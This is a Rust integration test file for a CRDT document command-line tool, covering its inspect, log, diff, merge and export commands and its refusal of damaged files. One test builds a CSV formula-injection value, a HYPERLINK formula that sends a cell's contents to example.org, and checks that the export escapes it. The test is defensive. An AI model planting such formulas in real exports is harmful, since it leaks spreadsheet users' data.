//! The commands for saved documents: what they print of the real histories, and what they say of damaged files.

use crate::program::{converge, data, folder, parts};
use converge::history::{TABLE, add_fingerprints, read_events};
use converge::{Doc, Error, EventId, EventRun, RowOp, Store, StoreOptions, Value};
use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// Runs the program in a folder; gives its exit code and what it said.
fn run(folder: &Path, arguments: &[&str]) -> (Option<i32>, String, String) {
    let program = Command::new(env!("CARGO_BIN_EXE_converge")).args(arguments).current_dir(folder).output();
    parts(&program.expect("the program starts"))
}

/// What a run said that ended well, and that it said nothing on standard error.
fn said(folder: &Path, arguments: &[&str]) -> String {
    let (code, stdout, stderr) = run(folder, arguments);
    assert_eq!((code, stderr.as_str()), (Some(0), ""), "{arguments:?}: {stdout}");
    stdout
}

/// What a run said on standard error that failed, and that it said nothing else.
fn complained(folder: &Path, arguments: &[&str]) -> String {
    let (code, stdout, stderr) = run(folder, arguments);
    assert_eq!((code, stdout.as_str()), (Some(1), ""), "{arguments:?}: {stderr}");
    assert!(stderr.starts_with("converge: ") && stderr.lines().count() == 1, "{arguments:?}: {stderr}");
    stderr
}

fn history(name: &str) -> Vec<EventRun> {
    let mut events = read_events(File::open(data(name)).expect("it is there")).expect("a history");
    add_fingerprints(&mut events).expect("the events are valid");
    events
}

/// A document of these events.
fn document(events: &[EventRun]) -> Doc {
    let doc = Doc::create("test").expect("a document");
    doc.merge_events(events).expect("events of a history");
    doc
}

/// What is said of this, in a line of its own.
fn fact<'a>(said: &'a str, name: &str) -> &'a str {
    let begins = format!("{name:<9} ");
    // Tables are wider.
    let fact = said.lines().find_map(|line| line.strip_prefix(&begins).filter(|fact| !fact.starts_with(' ')));
    fact.unwrap_or_else(|| panic!("no {name} in {said}"))
}

/// The number of this section, table or peer.
fn number<'a>(said: &'a str, name: &str) -> &'a str {
    let begins = format!("{name:<30} ");
    let number = said.lines().find_map(|line| line.strip_prefix(&begins));
    number.unwrap_or_else(|| panic!("no {name} in {said}")).trim_start()
}

/// A small document with what is hard to show.
fn odd() -> Result<Doc, Error> {
    let doc = Doc::create("ann, \"the\" first")?;
    let cells: [(&str, Value); 8] = [
        ("blob", Value::Blob(vec![0, 255])),
        ("flag", true.into()),
        ("large", i64::MAX.into()),
        ("none", f64::NAN.into()),
        ("null", Value::Null),
        ("real", 2.0.into()),
        ("text", "a,\"b\"\r\n\u{1b}[31m".into()),
        ("vast", f64::NEG_INFINITY.into()),
    ];
    doc.insert("odd", "r\n1", cells)?;
    doc.insert("odd", "r2", [("text", ""), ("zoo", "é")])?;
    Ok(doc)
}

#[test]
fn inspect_tells_what_is_in_the_real_histories() -> Result<(), Error> {
    let folder = folder();
    for (name, events, peers, rows) in [("yjs", 2_247, 217, 74), ("automerge", 1_655, 118, 649)] {
        let doc = document(&history(&format!("{name}.history.tsv.gz")));
        doc.save_file(folder.path().join("doc"))?;
        let saved = doc.save()?;
        let shown = said(folder.path(), &["inspect", "doc"]);
        assert_eq!(fact(&shown, "content"), "document");
        assert_eq!(fact(&shown, "version"), "1");
        assert_eq!(fact(&shown, "bytes"), saved.len().to_string());
        assert_eq!(fact(&shown, "events"), events.to_string());
        assert_eq!(fact(&shown, "peers"), peers.to_string());
        assert_eq!(fact(&shown, "waiting"), "0");
        assert_eq!(fact(&shown, "digest"), doc.digest()?.to_string());
        assert_eq!(number(&shown, TABLE), rows.to_string());
        assert!(!shown.contains("horizon"), "{shown}");
        let checks: Vec<_> = shown.lines().filter_map(|line| line.strip_prefix("check     ")).collect();
        assert_eq!(checks, ["bytes: ok", "loads: ok", "saves to the same bytes: ok", "history gives the rows: ok"]);
        // All but the few bytes of the frame are in a section.
        let sizes = ["peers", "names", "state", "history", "fingerprints"]
            .map(|section| number(&shown, section).parse::<usize>());
        let sections: usize = sizes.into_iter().flatten().sum();
        assert!((1..50).contains(&(saved.len() - sections)), "{shown}");

        assert!(shown.contains(&format!("and {} more peers (--all shows them)", peers - 20)), "{shown}");
        let all = said(folder.path(), &["inspect", "--all", "doc"]);
        assert!(doc.version()?.iter().all(|known| number(&all, &known.peer) == known.count.to_string()), "{all}");
    }
    Ok(())
}

/// The bytes with a checksum that fits.
fn sealed(mut bytes: Vec<u8>) -> Vec<u8> {
    bytes.truncate(bytes.len() - 4);
    let checksum = crc32fast::hash(&bytes);
    bytes.extend(checksum.to_le_bytes());
    bytes
}

#[test]
fn inspect_tells_horizons_and_waiting_events_and_updates() -> Result<(), Error> {
    let folder = folder();
    let events = history("yjs.history.tsv.gz");
    let doc = document(&events[..1_000]);
    doc.compact(&[doc.summary()?])?;
    let horizon: Vec<_> = doc.version()?.iter().map(|of| format!("{}:{}", of.peer, of.count - 1)).collect();
    // One of them waits for the one that is left out.
    doc.merge_events(&events[1_000..1_100])?;
    let waiting = doc.merge_events(&events[1_101..1_102])?.waiting;
    doc.save_file(folder.path().join("doc"))?;
    let shown = said(folder.path(), &["inspect", "doc", "--all"]);
    assert_eq!(fact(&shown, "events"), (1_101 - waiting).to_string());
    assert_eq!(fact(&shown, "history"), format!("{} of them, above the horizon", 101 - waiting));
    assert_eq!(fact(&shown, "horizon"), horizon.join(","));
    assert_eq!(fact(&shown, "waiting"), waiting.to_string());
    assert!(shown.ends_with("history gives the rows: ok\n"), "{shown}");

    let whole = document(&events);
    let known = document(&events[..2_000]).version()?;
    fs::write(folder.path().join("update"), whole.update_since(&Doc::summary_of(&known)?)?).expect("written");
    fs::write(folder.path().join("all"), whole.update_since(&Doc::summary_of(&[])?)?).expect("written");
    let shown = said(folder.path(), &["inspect", "update"]);
    assert_eq!(fact(&shown, "content"), "update");
    assert_eq!((fact(&shown, "applied"), fact(&shown, "waiting")), ("0", "247"));
    let first_missing = fact(&shown, "missing").split(':').next().unwrap_or_default();
    assert!(known.iter().any(|known| known.peer == first_missing), "{shown}");
    assert!(shown.ends_with("check     merges: ok\n"), "{shown}");
    let shown = said(folder.path(), &["inspect", "all"]);
    assert_eq!((fact(&shown, "applied"), fact(&shown, "waiting")), ("2247", "0"));
    assert_eq!((fact(&shown, "missing"), number(&shown, TABLE)), ("none", "74"));
    Ok(())
}

#[test]
fn inspect_describes_the_bytes_of_a_store() -> Result<(), Error> {
    let folder = folder();
    let store = Store::create("ann", StoreOptions::default())?;
    store.set("cursors", "ann", 7, 1_000.0)?;
    store.set("cursors", "ben", 8, 1_000.0)?;
    store.set("who is here", "ann", true, 2_000.0)?;
    let update = store.take_update()?.expect("an update");
    for (bytes, content) in [(store.snapshot(&[])?, "snapshot of a store"), (update, "update of a store")] {
        fs::write(folder.path().join("entries"), &bytes).expect("written");
        let shown = said(folder.path(), &["inspect", "entries"]);
        assert!(["snapshot of a store", "update of a store"].contains(&fact(&shown, "content")), "{shown}");
        assert_eq!((number(&shown, "cursors"), number(&shown, "\"who is here\"")), ("2", "1"), "{content}: {shown}");
        assert!(shown.ends_with("check     merges: ok\n"), "{shown}");
    }
    Ok(())
}

#[test]
fn inspect_says_which_check_fails() -> Result<(), Error> {
    let folder = folder();
    let saved = odd()?.save()?;
    let shown = |bytes: &[u8]| {
        fs::write(folder.path().join("doc"), bytes).expect("written");
        let (code, stdout, stderr) = run(folder.path(), &["inspect", "doc"]);
        assert_eq!((code, stderr.as_str()), (Some(1), ""), "{stdout}");
        stdout.lines().last().unwrap_or_default().to_owned()
    };

    let corrupt = "check     bytes: FAILED: corrupt bytes: ";
    assert!(shown(b"PK\x03\x04").starts_with(corrupt));
    assert!(shown(&saved[..saved.len() - 1]).starts_with(corrupt));
    assert!(shown(&[saved.as_slice(), &[0]].concat()).starts_with(corrupt));
    let mut newer = saved.clone();
    newer[4] = 2;
    assert!(shown(&newer).starts_with("check     bytes: FAILED: this engine cannot read format version 2"));
    let mut flipped = saved.clone();
    flipped[30] ^= 1;
    assert!(shown(&flipped).contains("checksum"));
    // The checksum fits, but the bytes claim to be an update, which has other sections.
    let mut other_kind = saved;
    other_kind[5] = b'U';
    assert!(shown(&sealed(other_kind)).starts_with(corrupt));
    Ok(())
}

/// Loading believes what the bytes say of the rows; `inspect` does not.
#[test]
fn whatever_is_flipped_a_check_fails_or_it_is_another_sound_document() -> Result<(), Error> {
    let folder = folder();
    let history = "C\tann\t1\t\nI\ta\tmode=1\tby=x\nI\tb\tmode=2\nC\tben\t1\t\nI\ta\tmode=7\tblob=y\n\
                   C\tann\t2\t0,1\nU\ta\tmode=3\nD\tb\nC\tben\t2\t1\nU\ta\tmode=9\n";
    let saved = document(&read_events(history.as_bytes()).expect("a history")).save()?;
    let mut failed = BTreeSet::new();
    // Behind the length of the sections, and before the checksum.
    for at in 9..saved.len() - 4 {
        let mut bytes = saved.clone();
        bytes[at] ^= 2;
        fs::write(folder.path().join("doc"), sealed(bytes)).expect("written");
        let (code, stdout, stderr) = run(folder.path(), &["inspect", "doc"]);
        let has_failed = stdout.contains("FAILED");
        assert_eq!((code, stderr.as_str()), (Some(i32::from(has_failed)), ""), "byte {at}: {stdout}");
        let checks = stdout.lines().filter_map(|line| line.strip_prefix("check     ")?.split_once(": FAILED"));
        failed.extend(checks.map(|(check, _)| check.to_owned()));
    }
    let every = ["bytes", "history gives the rows", "loads", "saves to the same bytes"];
    assert_eq!(failed.iter().collect::<Vec<_>>(), every);
    Ok(())
}

/// Bytes that were made to do harm, with what the engine must say to them.
#[test]
fn inspect_takes_whatever_comes() {
    let crashers = data("../../crashers");
    let verdicts = fs::read_to_string(crashers.join("verdicts.txt")).expect("verdicts");
    let mut files: Vec<PathBuf> =
        fs::read_dir(&crashers).expect("crashers").map(|entry| entry.expect("an entry").path()).collect();
    files.retain(|file| file.extension().is_some_and(|extension| extension == "bin"));
    assert!(files.len() > 20);
    for file in files {
        let name = file.file_name().unwrap_or_default().to_string_lossy();
        // Merged into whatever: on its own, the events of an update may wait.
        let is_ok =
            |call| verdicts.lines().any(|line| line.starts_with(&format!("{name} {call} ")) && line.ends_with(" ok"));
        let is_sound = is_ok("load") || is_ok("merge-update");
        let (code, stdout, stderr) = parts(&converge([Path::new("inspect"), &file]));
        assert_eq!((code, stderr.as_str()), (Some(i32::from(!is_sound)), ""), "{name}: {stdout}");
        assert_eq!(stdout.contains("FAILED"), !is_sound, "{name}: {stdout}");
        let is_left_out = stdout.contains("skipped: section 64 is of a later version and would be lost");
        assert_eq!(is_left_out, name == "unknown-section-to-skip.bin", "{name}: {stdout}");
    }
}

#[test]
fn log_tells_every_event_in_the_order_of_execution() -> Result<(), Error> {
    let folder = folder();
    let events = history("yjs.history.tsv.gz");
    document(&events).save_file(folder.path().join("doc"))?;
    let shown = said(folder.path(), &["log", "doc"]);
    let mut expected: Vec<(u32, String)> = events
        .iter()
        .map(|event| {
            let deps: Vec<_> = event.deps.iter().map(|dep| format!("{}:{}", dep.peer, dep.counter)).collect();
            let deps = if deps.is_empty() { "-".to_owned() } else { deps.join(",") };
            let lamport = event.lamport.unwrap_or_default();
            (lamport, format!("{}:{}  lamport {lamport}  on {deps}  ", event.peer, event.start))
        })
        .collect();
    // A stable order: equal lamport times by peer.
    expected.sort_by(|one, other| (one.0, &one.1).cmp(&(other.0, &other.1)));
    assert_eq!(shown.lines().count(), expected.len());
    for (line, (_, begins)) in shown.lines().zip(&expected) {
        assert!(line.starts_with(begins), "{line}, not {begins}");
    }

    let last: Vec<&str> = shown.lines().skip(expected.len() - 3).collect();
    assert_eq!(said(folder.path(), &["log", "doc", "--limit", "3"]).lines().collect::<Vec<_>>(), last);
    let of_peer = said(folder.path(), &["log", "doc", "--peer=p0216"]);
    let expected: Vec<&str> = shown.lines().filter(|line| line.starts_with("p0216:")).collect();
    assert!(!expected.is_empty());
    assert_eq!(of_peer.lines().collect::<Vec<_>>(), expected);
    let error = complained(folder.path(), &["log", "doc", "--peer", "nobody"]);
    assert!(error.contains("there are no events of \"nobody\""), "{error}");
    Ok(())
}

#[test]
fn log_shows_odd_names_plainly_and_what_is_beyond_a_horizon() -> Result<(), Error> {
    let folder = folder();
    let doc = odd()?;
    doc.compact(&[doc.summary()?])?;
    doc.save_file(folder.path().join("doc"))?;
    assert_eq!(said(folder.path(), &["log", "doc"]), "");
    doc.commit(vec![])?;
    doc.delete("odd", "r\n1")?;
    doc.save_file(folder.path().join("doc"))?;
    let peer = "ann%2C%20%22the%22%20first";
    let expected =
        format!("{peer}:2  lamport 3  on {peer}:1  nothing\n{peer}:3  lamport 4  on {peer}:2  delete odd \"r\\n1\"\n");
    assert_eq!(said(folder.path(), &["log", "doc"]), expected);
    // What is shown can be given back.
    let heads = format!("{peer}:2");
    let (code, stdout, _) = run(folder.path(), &["diff", "doc", "--from", &heads]);
    assert_eq!((code, stdout.as_str()), (Some(1), "delete odd \"r\\n1\"\n"));
    Ok(())
}

#[test]
fn diff_tells_the_same_of_versions_and_of_files() -> Result<(), Error> {
    let folder = folder();
    let events = history("automerge.history.tsv.gz");
    let (old, new) = (document(&events[..1_200]), document(&events));
    old.save_file(folder.path().join("old"))?;
    new.save_file(folder.path().join("new"))?;
    let heads = |doc: &Doc| -> Result<String, Error> {
        Ok(doc.heads()?.iter().map(|head| format!("{}:{}", head.peer, head.counter)).collect::<Vec<_>>().join(","))
    };
    let differs = |arguments: &[&str]| {
        let (code, stdout, stderr) = run(folder.path(), arguments);
        assert_eq!((code, stderr.as_str()), (Some(1), ""), "{arguments:?}");
        stdout
    };
    let (from, to) = (heads(&old)?, heads(&new)?);
    let of_files = differs(&["diff", "old", "new"]);
    assert!(of_files.lines().count() > 10, "{of_files}");
    assert_eq!(differs(&["diff", "new", "--from", &from]), of_files);
    assert_eq!(differs(&["diff", "new", "--from", &from, "--to", &to]), of_files);
    assert_eq!(differs(&["diff", "new", "--from", &to, "--to", &from]), differs(&["diff", "new", "old"]));
    assert_eq!(differs(&["diff", "new", "--from", "", "--to", &to]).lines().count(), 649);
    assert_eq!(said(folder.path(), &["diff", "new", "new"]), "");
    assert_eq!(said(folder.path(), &["diff", "old", "--from", &from]), "");

    let error = complained(folder.path(), &["diff", "old", "--from", &to]);
    assert!(error.starts_with("converge: old: invalid argument: "), "{error}");
    new.compact(&[old.summary()?])?;
    new.save_file(folder.path().join("new"))?;
    let error = complained(folder.path(), &["diff", "new", "--from", ""]);
    assert!(error.starts_with("converge: new: the call needs history that was compacted away; "), "{error}");
    assert_eq!(differs(&["diff", "new", "--from", &from]), of_files);
    Ok(())
}

#[test]
fn diff_shows_every_value() -> Result<(), Error> {
    let folder = folder();
    let doc = odd()?;
    doc.save_file(folder.path().join("doc"))?;
    let (code, stdout, _) = run(folder.path(), &["diff", "doc", "--from", ""]);
    assert_eq!(code, Some(1));
    assert_eq!(
        stdout,
        "insert odd \"r\\n1\" blob=x'00ff' flag=true large=9223372036854775807 none=NaN null=null real=2.0 \
         text=\"a,\\\"b\\\"\\r\\n\\u{1b}[31m\" vast=-inf\ninsert odd r2 text=\"\" zoo=\"é\"\n"
    );
    Ok(())
}

#[test]
fn merge_takes_documents_and_updates_in_any_number() -> Result<(), Error> {
    let folder = folder();
    let events = history("yjs.history.tsv.gz");
    let whole = document(&events);
    let (early, middle) = (document(&events[..800]), document(&events[..1_500]));
    early.save_file(folder.path().join("early"))?;
    middle.save_file(folder.path().join("middle"))?;
    fs::write(folder.path().join("late"), whole.update_since(&middle.summary()?)?).expect("written");

    let shown = said(folder.path(), &["merge", "early", "late", "middle", "-o", "out"]);
    let expected = format!(
        "late: 0 applied, 0 known before\nmiddle: 1447 applied, 800 known before\nwaiting   0\ndigest    {}\n",
        whole.digest()?
    );
    assert_eq!(shown, expected);
    assert_eq!(fs::read(folder.path().join("out")).expect("written"), whole.save()?);
    // Onto one of those that are merged, and with what is left waiting.
    let shown = said(folder.path(), &["merge", "-o", "early", "early", "late"]);
    assert_eq!(fact(&shown, "waiting"), "747");
    assert!(fact(&shown, "missing").contains(':'), "{shown}");
    let waiting = Doc::load_file("test", folder.path().join("early"))?;
    assert_eq!(waiting.merge_events(&[])?.waiting, 747);
    let shown = said(folder.path(), &["merge", "middle", "early", "--output", "out"]);
    assert!(shown.starts_with("early: 747 applied, 800 known before\nwaiting   0\n"), "{shown}");
    Ok(())
}

#[test]
fn merging_two_lives_of_a_peer_keeps_both() -> Result<(), Error> {
    let folder = folder();
    for (name, text) in [("first", "one life"), ("second", "another life")] {
        let doc = Doc::create("ann")?;
        doc.insert("notes", name, [("text", text)])?;
        doc.save_file(folder.path().join(name))?;
    }
    let shown = said(folder.path(), &["merge", "first", "second", "-o", "out"]);
    assert!(shown.starts_with("second: 1 applied, 0 known before\nwaiting   0\n"), "{shown}");
    let doc = Doc::load_file("test", folder.path().join("out"))?;
    assert_eq!(doc.version()?.len(), 2);
    assert!(doc.get("notes", "first")?.is_some() && doc.get("notes", "second")?.is_some());
    Ok(())
}

#[test]
fn merges_that_are_refused_write_nothing() -> Result<(), Error> {
    let folder = folder();
    let doc = odd()?;
    let compacted = Doc::load("zoe", &doc.save()?)?;
    compacted.compact(&[compacted.summary()?])?;
    for (name, doc) in [("doc", &doc), ("compacted", &compacted), ("empty", &Doc::create("ann")?)] {
        doc.save_file(folder.path().join(name))?;
    }
    fs::write(folder.path().join("update"), doc.update_since(&Doc::summary_of(&[])?)?).expect("written");
    fs::write(folder.path().join("damaged"), "PK").expect("written");

    let merge = |one: &str, other: &str| complained(folder.path(), &["merge", one, other, "-o", "out"]);
    let error = merge("empty", "compacted");
    assert!(
        error.starts_with("converge: compacted: ") && error.contains("name the compacted document first"),
        "{error}"
    );
    let error = merge("update", "doc");
    assert!(error.starts_with("converge: update: it is an update, and the command needs a document"), "{error}");
    assert!(merge("doc", "damaged").starts_with("converge: damaged: corrupt bytes: at byte 0"));
    assert!(merge("doc", "none").starts_with("converge: none: "));
    assert!(!folder.path().join("out").exists());
    let error = complained(folder.path(), &["merge", "doc", "doc", "-o", "none/out"]);
    assert!(error.starts_with("converge: none/out: "), "{error}");
    said(folder.path(), &["merge", "compacted", "empty", "-o", "out"]);
    assert_eq!(fs::read(folder.path().join("out")).expect("written"), compacted.save()?);
    Ok(())
}

#[test]
fn export_writes_what_other_tools_read() -> Result<(), Error> {
    let folder = folder();
    odd()?.save_file(folder.path().join("doc"))?;
    let csv = said(folder.path(), &["export", "doc", "--table", "odd"]);
    let expected = "id,blob,flag,large,none,null,real,text,vast,zoo\r\n\
                    \"r\n1\",00ff,true,9223372036854775807,NaN,,2.0,\"a,\"\"b\"\"\r\n\u{1b}[31m\",-Infinity,\r\n\
                    r2,,,,,,,,,é\r\n";
    assert_eq!(csv, expected);
    let json = said(folder.path(), &["export", "doc", "--table", "odd", "--format", "jsonl", "--id", "row"]);
    let expected = "{\"row\":\"r\\n1\",\"blob\":\"00ff\",\"flag\":true,\"large\":9223372036854775807,\"none\":\"NaN\",\
                    \"null\":null,\"real\":2.0,\"text\":\"a,\\\"b\\\"\\r\\n\\u001b[31m\",\"vast\":\"-Infinity\"}\n\
                    {\"row\":\"r2\",\"text\":\"\",\"zoo\":\"é\"}\n";
    assert_eq!(json, expected);
    assert_eq!(said(folder.path(), &["export", "doc", "--table", "odd", "-o", "out"]), "");
    assert_eq!(fs::read_to_string(folder.path().join("out")).expect("written"), csv);

    let error = complained(folder.path(), &["export", "doc", "--table", "even"]);
    assert!(error.ends_with("there are no rows in table \"even\"; tables: odd\n"), "{error}");
    let error = complained(folder.path(), &["export", "doc", "--table", "odd", "--id", "zoo", "-o", "none"]);
    assert!(error.contains("has a column \"zoo\"") && error.contains("--id NAME"), "{error}");
    let error = complained(folder.path(), &["export", "doc", "--table", "odd", "-o", "."]);
    assert!(error.starts_with("converge: .: "), "{error}");
    Ok(())
}

#[test]
fn exported_texts_pass_for_formulas_unless_they_are_neutralized() -> Result<(), Error> {
    let folder = folder();
    let doc = Doc::create("ann")?;
    let formula = "=HYPERLINK(\"http://example.org/\" & A1)";
    for (row, text) in
        [("=r", formula), ("r1", "+1"), ("r2", "-1"), ("r3", "@x"), ("r4", "\tx"), ("r5", "\rx"), ("r6", "1-1")]
    {
        doc.insert("t", row, [("=c", Value::from(text)), ("n", (-1).into())])?;
    }
    doc.save_file(folder.path().join("doc"))?;
    let export = |more: &[&str]| {
        let csv = said(folder.path(), &[&["export", "doc", "--table", "t"], more].concat());
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
        let records = reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect());
        records.collect::<Vec<Vec<String>>>()
    };
    let row = |id: &str, text: &str, number: &str| [id, text, number].map(str::to_owned).to_vec();
    let plain = export(&[]);
    assert_eq!(plain[..2], [row("id", "=c", "n"), row("=r", formula, "-1")]);
    let neutral = export(&["--neutralize-formulas"]);
    let expected = [
        row("id", "'=c", "n"),
        row("'=r", &format!("'{formula}"), "-1"),
        row("r1", "'+1", "-1"),
        row("r2", "'-1", "-1"),
        row("r3", "'@x", "-1"),
        row("r4", "'\tx", "-1"),
        row("r5", "'\rx", "-1"),
        row("r6", "1-1", "-1"),
    ];
    assert_eq!(neutral, expected);
    let (code, ..) =
        run(folder.path(), &["export", "doc", "--table", "t", "--format", "jsonl", "--neutralize-formulas"]);
    assert_eq!(code, Some(2));
    Ok(())
}

#[test]
fn export_writes_every_row_of_a_real_history() -> Result<(), Error> {
    let folder = folder();
    let doc = document(&history("automerge.history.tsv.gz"));
    doc.save_file(folder.path().join("doc"))?;
    let csv = said(folder.path(), &["export", "doc", "--table", TABLE]);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(reader.headers().expect("a header"), vec!["id", "blob", "by", "mode", "modified"]);
    let read: Vec<Vec<String>> =
        reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect()).collect();
    let json = said(folder.path(), &["export", "doc", "--table", TABLE, "--format=jsonl"]);
    let mut lines = json.lines();
    assert_eq!(read.len(), 649);
    for (row, record) in doc.rows(TABLE, Default::default()).zip(read) {
        let row = row?;
        let mut fields = vec![row.id.clone()];
        let mut object = serde_json::Map::from_iter([("id".to_owned(), row.id.into())]);
        for cell in row.cells {
            let (field, value) = match cell.value {
                Value::Integer(value) => (value.to_string(), value.into()),
                Value::Text(value) => (value.clone(), serde_json::Value::from(value)),
                other => panic!("{other:?} is not in these histories"),
            };
            fields.push(field);
            object.insert(cell.column, value);
        }
        assert_eq!(record, fields);
        let line = lines.next().map(|line| serde_json::from_str(line).expect("JSON"));
        assert_eq!(line, Some(serde_json::Value::Object(object)));
    }
    Ok(())
}

#[test]
fn damaged_files_are_refused_by_every_command() -> Result<(), Error> {
    let folder = folder();
    let saved = odd()?.save()?;
    let mut flipped = saved.clone();
    flipped[30] ^= 1;
    let mut newer = saved.clone();
    newer[4] = 9;
    let cut = &saved[..saved.len() / 2];
    let commands: [&[&str]; 5] = [
        &["log", "doc"],
        &["diff", "doc", "--from", ""],
        &["diff", "doc", "doc"],
        &["merge", "doc", "doc", "-o", "out"],
        &["export", "doc", "--table", "odd"],
    ];
    for (bytes, expected) in [
        (flipped.as_slice(), "corrupt bytes: at byte "),
        (cut, "corrupt bytes: at byte "),
        (&newer, "this engine cannot read format version 9; a newer engine wrote the bytes"),
        (b"", "corrupt bytes: at byte 0"),
    ] {
        fs::write(folder.path().join("doc"), bytes).expect("written");
        for command in commands {
            let error = complained(folder.path(), command);
            assert!(error.starts_with(&format!("converge: doc: {expected}")), "{command:?}: {error}");
        }
    }
    fs::remove_file(folder.path().join("doc")).expect("removed");
    for command in commands.into_iter().chain([["inspect", "doc"].as_slice()]) {
        assert!(complained(folder.path(), command).starts_with("converge: doc: "), "{command:?}");
    }
    assert!(!folder.path().join("out").exists());
    Ok(())
}

#[test]
fn wrong_calls_of_the_commands_end_with_2() {
    let wrong: [&[&str]; 19] = [
        &["inspect"],
        &["inspect", "a", "b"],
        &["inspect", "a", "--most", "1"],
        &["log"],
        &["log", "a", "--limit", "-1"],
        &["log", "a", "b"],
        &["diff"],
        &["diff", "a"],
        &["diff", "a", "--to", "x:1"],
        &["diff", "a", "b", "c"],
        &["diff", "a", "b", "--from", "x:1"],
        &["diff", "a", "--from", "x"],
        &["merge", "-o", "a"],
        &["merge", "a", "-o", "b"],
        &["merge", "a", "b"],
        &["export", "--table", "t"],
        &["export", "a"],
        &["export", "a", "--table", "t", "--format", "xml"],
        &["replay", "a", "--save"],
    ];
    for arguments in wrong {
        let (code, stdout, stderr) = parts(&converge(arguments));
        assert_eq!((code, stdout.as_str()), (Some(2), ""), "{arguments:?}");
        assert!(stderr.starts_with("converge: "), "{arguments:?}: {stderr}");
    }
}

#[test]
fn every_command_has_its_help() {
    let (_, all, _) = parts(&converge(["--help"]));
    for command in ["inspect", "log", "diff", "merge", "export", "replay", "component"] {
        let usage = format!("  converge {command} ");
        assert!(all.contains(&usage), "{all}");
        let (code, stdout, stderr) = parts(&converge([command, "--help"]));
        assert_eq!((code, stderr.as_str()), (Some(0), ""));
        assert!(stdout.contains(&usage) && stdout != all, "{stdout}");
    }
}

#[test]
fn replay_saves_the_document() -> Result<(), Error> {
    let folder = folder();
    let history = data("yjs.history.tsv.gz").display().to_string();
    let saved = |arguments: &[&str], out: &str| {
        let (code, ..) = run(folder.path(), &[&["replay", &history, "--save", out], arguments].concat());
        assert_eq!(code, Some(0));
        fs::read(folder.path().join(out)).expect("written")
    };
    // The order of arrival cannot be seen in the bytes.
    let expected = document(&crate::commands::history("yjs.history.tsv.gz")).save()?;
    assert!(saved(&["--batch", "100"], "one") == expected);
    assert!(saved(&["--order", "shuffle:3"], "two") == expected);
    Ok(())
}

#[test]
fn a_reader_that_closes_the_pipe_as_head_does_is_no_failure() -> Result<(), Error> {
    let folder = folder();
    let history = data("automerge.history.tsv.gz").display().to_string();
    said(folder.path(), &["replay", &history, "--batch", "10000", "--save", "doc"]);
    let commands: [&[&str]; 5] = [
        &["log", "doc"],
        &["inspect", "doc", "--all"],
        &["diff", "doc", "--from", ""],
        &["export", "doc", "--table", TABLE],
        &["export", "doc", "--table", TABLE, "--format", "jsonl"],
    ];
    for command in commands {
        let mut program = Command::new(env!("CARGO_BIN_EXE_converge"))
            .args(command)
            .current_dir(folder.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the program starts");
        drop(program.stdout.take());
        let mut stderr = String::new();
        program.stderr.take().expect("a pipe").read_to_string(&mut stderr).expect("text");
        assert_eq!((program.wait().expect("it ends").code(), stderr.as_str()), (Some(0), ""), "{command:?}");
    }
    Ok(())
}

/// Events that wait are in the document, and in what `inspect` counts, but are nobody's to pass on.
#[test]
fn waiting_events_are_counted_and_not_told() -> Result<(), Error> {
    let folder = folder();
    let doc = odd()?;
    let early = EventRun {
        peer: "ben".into(),
        start: 0,
        lamport: Some(9),
        deps: vec![EventId::new("zoe", 3)],
        fingerprints: vec![7],
        salt: 0,
        commits: vec![vec![RowOp::delete("odd", "r2")]],
    };
    doc.merge_events(&[early])?;
    doc.save_file(folder.path().join("doc"))?;
    assert_eq!(fact(&said(folder.path(), &["inspect", "doc"]), "waiting"), "1");
    assert_eq!(said(folder.path(), &["log", "doc"]).lines().count(), 2);
    Ok(())
}
